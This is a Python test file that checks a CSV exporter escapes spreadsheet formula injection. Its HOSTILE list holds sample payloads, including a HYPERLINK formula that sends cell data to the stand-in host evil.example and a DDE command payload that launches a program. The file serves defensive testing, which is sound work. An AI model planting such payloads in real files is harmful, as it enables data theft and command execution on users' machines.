"""No CSV cell kartoteka writes can run as a spreadsheet formula (export csv and the web download)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from test_data_exports import COLL

from kartoteka.export.csv import safe_row, to_csv
from kartoteka.export.table import DocumentRow, document_rows

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1, 2)",
           "\tleading tab", "\rleading return"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_written_as_text(cell: str) -> None:
    rows = [replace(document_rows(COLL)[0], title=cell, senders=cell)]
    read = list(csv.DictReader(io.StringIO(to_csv(rows, DocumentRow))))
    assert read[0]["title"] == "'" + cell and read[0]["senders"] == "'" + cell


def test_plain_values_are_kept_as_they_are() -> None:
    assert safe_row(["Tabriz", 3, -1.5, None, "", "a=b", "1946-12-09"]) == ["Tabriz", 3, -1.5, "", "", "a=b",
                                                                           "1946-12-09"]
